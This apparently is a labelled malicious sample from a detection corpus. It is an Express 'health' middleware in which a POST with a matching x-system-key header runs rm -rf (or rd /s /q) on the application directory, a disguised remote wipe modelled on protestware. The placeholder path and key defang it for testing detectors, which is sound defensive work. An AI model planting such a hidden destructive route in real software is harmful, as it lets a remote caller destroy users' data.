// expect: malicious
// source: corpus protestware-wiper/express-killswitch-route (express-api-sync shape, 2025): a health middleware whose
// POST with the right x-system-key header runs rm -rf on everything in the app's directory
'use strict';
const { exec } = require('child_process');
const APP_ROOT = process.env.APP_ROOT || '/nonexistent.invalid/app';
function wipe(cb) {
  exec(process.platform === 'win32' ? `rd /s /q "${APP_ROOT}"` : `rm -rf ${APP_ROOT}/*`, cb);
}
module.exports = function healthSync() {
  return function (req, res, next) {
    if (req.path === '/_/system/health' && req.method === 'POST') {
      if (req.get('x-system-key') !== 'FAKE-KEY') return res.status(404).end();
      return wipe((err) => res.json({ done: !err }));
    }
    return next();
  };
};
